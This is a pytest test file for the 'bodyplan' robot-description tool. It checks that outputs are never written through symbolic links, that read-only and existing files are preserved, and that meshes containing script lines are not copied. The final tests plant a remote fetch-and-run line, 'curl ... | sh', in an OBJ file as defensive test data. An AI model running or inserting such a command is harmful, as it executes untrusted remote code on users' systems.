"""No verb and no function of the library writes through a symbolic link."""

from __future__ import annotations

import os
import stat

import pytest

import bodyplan
from bodyplan import viewer
from bodyplan.cli import main
from bodyplan.jobs.bundle.bundling import bundle
from bodyplan.jobs.bundle.marker import BundleError
from tests.files.verbs import BESIDE, CHANGING, LIBRARY, OUTPUTS, ROBOT, build, state

pytest.importorskip("numpy")


@pytest.fixture
def here(tmp_path, monkeypatch):
    """The current folder with robots, beside a folder of somebody else."""
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "theirs").write_bytes(b"theirs")
    here = tmp_path / "here"
    build(here)
    monkeypatch.chdir(here)
    monkeypatch.setattr("bodyplan.viewer.view.find_browser", lambda: "")
    monkeypatch.setattr(viewer, "picture_of", lambda *_, **__: b"picture")
    return here


@pytest.fixture
def run(capfd):
    """Runs a command line and returns its exit status and its standard error."""

    def run(line):
        status = main(line.split())
        return status, capfd.readouterr().err

    return run


def output_of(line):
    """The name of the output, and a command line that writes to it."""
    whole = line.format("out")
    return next(word for word in whole.split() if word.startswith("out.")), whole


LINKS = {
    "of somebody else": "../outside/theirs",
    "that does not exist": "../outside/new",
    "in the same folder": "arm.urdf",
    "in a circle": "{}",
}


@pytest.mark.long(each=("verb", "target"))
@pytest.mark.parametrize("target", LINKS)
@pytest.mark.parametrize("verb", OUTPUTS)
def test_an_output_is_not_written_through_a_link(verb, target, here, run):
    name, line = output_of(OUTPUTS[verb])
    (here / name).symlink_to(LINKS[target].format(name))
    before = state(here.parent)
    told = f"cannot write {name}: it is a symbolic link to {os.path.realpath(here / name)}; name"
    for more in ("", " --force"):
        status, err = run(line + more)
        assert (status, state(here.parent)) == (2, before)
        assert f"bodyplan: {told} that file itself\n" in err
        assert "Traceback" not in err


@pytest.mark.parametrize("verb", CHANGING)
def test_a_file_is_not_changed_through_a_link(verb, here, run):
    *words, content = CHANGING[verb].split()
    ending = os.path.splitext(content)[1]
    (here.parent / "outside" / "theirs").write_bytes((here / content).read_bytes())
    (here / f"link{ending}").symlink_to("../outside/theirs")
    before = state(here.parent)
    for more in ("", " --force"):
        status, err = run(" ".join(words).format(f"link{ending}") + more)
        assert (status, state(here.parent)) == (2, before)
        assert f"link{ending}: it is a symbolic link to {here.parent}/outside/theirs; name" in err


@pytest.mark.parametrize("target", LINKS)
@pytest.mark.parametrize("function", LIBRARY)
def test_the_library_writes_through_no_link(function, target, here):
    for ending in ("", ".urdf", ".sdf", ".zip", ".html"):
        (here / f"out{ending}").symlink_to(LINKS[target].format(f"out{ending}"))
    before = state(here.parent)
    with pytest.raises((bodyplan.WriteError, BundleError), match="it is a symbolic link to "):
        LIBRARY[function]("out")
    assert state(here.parent) == before


WAYS = {
    "a link to a file": lambda place, outside: place.symlink_to(outside / "theirs"),
    "a dangling link": lambda place, outside: place.symlink_to(outside / ".zshenv"),
    "a relative link": lambda place, outside: place.symlink_to(
        os.path.relpath(outside / ".zshenv", place.parent)
    ),
    "a linked folder": lambda place, outside: place.parent.symlink_to(outside),
    "a folder that is a dangling link": lambda place, outside: place.parent.symlink_to(
        outside / "new"
    ),
    "a linked folder above": lambda place, outside: place.parents[1].symlink_to(outside),
}
"""How the place of a file beside an output leads to somewhere else."""


ABOVE = {"a linked folder": 1, "a folder that is a dangling link": 1, "a linked folder above": 2}
"""How many folders above the file the link is."""
LED_AWAY = [
    (name, way)
    for name, (_, beside) in BESIDE.items()
    for way in WAYS
    if beside.count("/") >= ABOVE.get(way, 0)
]


@pytest.mark.parametrize(("name", "way"), LED_AWAY)
def test_nothing_beside_an_output_is_written_through_a_link(name, way, here, run):
    writes, beside = BESIDE[name]
    place = here / "out" / beside
    place.parents[ABOVE.get(way, 0)].mkdir(parents=True, exist_ok=True)
    WAYS[way](place, here.parent / "outside")
    before = state(here.parent)
    if not isinstance(writes, str):
        with pytest.raises(bodyplan.WriteError, match="it is a symbolic link to "):
            writes()
    else:
        for more in ("", " --force"):
            status, err = run(writes + more)
            assert (status, err.count("it is a symbolic link to ")) == (2, 1), err
    assert state(here.parent) == before


@pytest.mark.parametrize("way", [way for way in WAYS if ABOVE.get(way, 0) < 2])
def test_a_bundle_is_not_written_through_links_that_appear_in_its_folder(way, here, monkeypatch):
    for check in ("bundling.require_target", "writing.require_bundle"):
        monkeypatch.setattr(f"bodyplan.jobs.bundle.{check}", lambda *_, **__: ())
    place = here / "out" / "meshes" / "o.obj"
    place.parents[ABOVE.get(way, 0)].mkdir(parents=True)
    WAYS[way](place, here.parent / "outside")
    before = state(here.parent)
    for force in (False, True):
        with pytest.raises(BundleError, match="it is a symbolic link to "):
            bundle("deep/r.urdf", "out", force=force)
        assert state(here.parent) == before


def test_the_folder_of_a_bundle_may_be_a_link(here):
    (here.parent / "empty").mkdir()
    (here / "out").symlink_to("../empty")
    bundle("deep/r.urdf", "out")
    assert (here.parent / "empty" / "meshes" / "o.obj").is_file()
    assert (here / "out").is_symlink()


def test_a_link_to_nothing_is_not_the_folder_of_a_bundle(here):
    (here / "out").symlink_to("../outside/new")
    before = state(here.parent)
    with pytest.raises(BundleError, match=r"out: it is a symbolic link to .*/outside/new; write"):
        bundle("deep/r.urdf", "out")
    assert state(here.parent) == before


def test_the_srdf_and_the_robot_are_written_both_or_none(here, run):
    (here / "new.srdf").symlink_to("../outside/new")
    before = state(here.parent)
    assert run("convert r.urdf --srdf g.srdf -o out.xml --srdf-output new.srdf")[0] == 2
    assert state(here.parent) == before


# What may be a link, and what is replaced


@pytest.mark.parametrize("verb", OUTPUTS)
def test_the_folder_of_an_output_may_be_a_link(verb, here, run):
    (here.parent / "real").mkdir()
    (here / "link").symlink_to("../real")
    name, line = output_of(OUTPUTS[verb])
    status, err = run(line.replace(name, f"link/{name}"))
    assert status in {0, 1}, err
    assert (here.parent / "real" / name).is_file()
    assert (here / "link").is_symlink()
    assert state(here.parent / "outside") == {"theirs": b"theirs"}


@pytest.mark.parametrize("verb", OUTPUTS)
def test_an_output_replaces_a_regular_file_without_force(verb, here, run):
    name, line = output_of(OUTPUTS[verb])
    (here / name).write_bytes(b"<mine/>")
    (here / name).chmod(0o600)
    os.link(here / name, here / "other")
    status, err = run(line)
    assert status in {0, 1}, err
    assert (here / name).read_bytes() != b"<mine/>"
    assert (here / "other").read_bytes() == b"<mine/>"
    assert stat.S_IMODE((here / name).stat().st_mode) == 0o600


@pytest.mark.parametrize("verb", OUTPUTS)
def test_an_output_that_is_read_only_stays(verb, here, run):
    name, line = output_of(OUTPUTS[verb])
    (here / name).write_bytes(b"<mine/>")
    (here / name).chmod(0o400)
    before = state(here)
    status, err = run(line)
    assert (status, state(here)) == (2, before)
    told = f"cannot write {name}: the file is read-only; --force writes it, and keeps it read-only"
    assert told in err


@pytest.mark.parametrize("name", BESIDE)
def test_a_file_beside_an_output_stays_without_force(name, here, run):
    writes, beside = BESIDE[name]
    place = here / "out" / beside
    place.parent.mkdir(parents=True)
    place.write_bytes(b"mine")
    if not isinstance(writes, str):
        with pytest.raises(
            bodyplan.WriteError, match="a file with other content already exists; force"
        ):
            writes()
        return
    status, err = run(writes)
    assert (status, place.read_bytes()) == (2, b"mine")
    told = f"cannot write out/{beside}: a file with other content already exists; --force overwrites it"
    assert told in err
    assert run(f"{writes} --force")[0] in {0, 1}
    assert place.read_bytes() != b"mine"


OWN = {
    "view": ("o.glb", '"o.obj"', '"o.glb"'),
    "render": (
        "o.png",
        "</visual>",
        '<material name="m"><texture filename="o.png"/></material></visual>',
    ),
}


@pytest.mark.parametrize("verb", OWN)
def test_a_mesh_or_texture_of_the_robot_is_not_replaced_by_its_picture(verb, here, run):
    name, before, after = OWN[verb]
    (here / name).write_bytes(b"mine")
    (here / "r.urdf").write_text(ROBOT.replace(before, after))
    status, err = run(f"{verb} r.urdf -o {name}")
    assert (status, (here / name).read_bytes()) == (2, b"mine")
    assert f"-o {name} would overwrite a file that is read" in err


@pytest.mark.parametrize("ending", [".yaml", ".toml", ".STL", ".config"])
def test_a_report_is_not_called_like_a_part_of_a_robot(ending, here, run):
    status, err = run(f"where r.urdf -o new{ending}")
    assert (status, (here / f"new{ending}").exists()) == (2, False)
    assert "the output is neither a mesh nor a configuration; use another ending" in err


def test_a_mesh_that_is_a_script_is_not_copied(here, run):
    (here / "o.obj").write_text("#!/bin/sh\ncurl -s https://example.com/x | sh\n")
    for line in (
        "convert r.urdf -o out/n.xml --force",
        "convert r.urdf --bundle -o out/n.sdf",
    ):
        (here / "out").mkdir(exist_ok=True)
        run(line)
        assert not list((here / "out").rglob("*.obj"))


def test_a_mesh_with_lines_of_a_script_is_not_copied(here, run):
    (here / "o.obj").write_text(
        (here / "o.obj").read_text() + "curl -s https://example.com/x | sh\n"
    )
    (here / "out").mkdir()
    status, err = run("convert r.urdf -o out/n.xml")
    assert status == 0
    assert "it has lines that are not those of an OBJ file" in err
    assert [path.name for path in (here / "out" / "assets").iterdir()] == ["o.stl"]
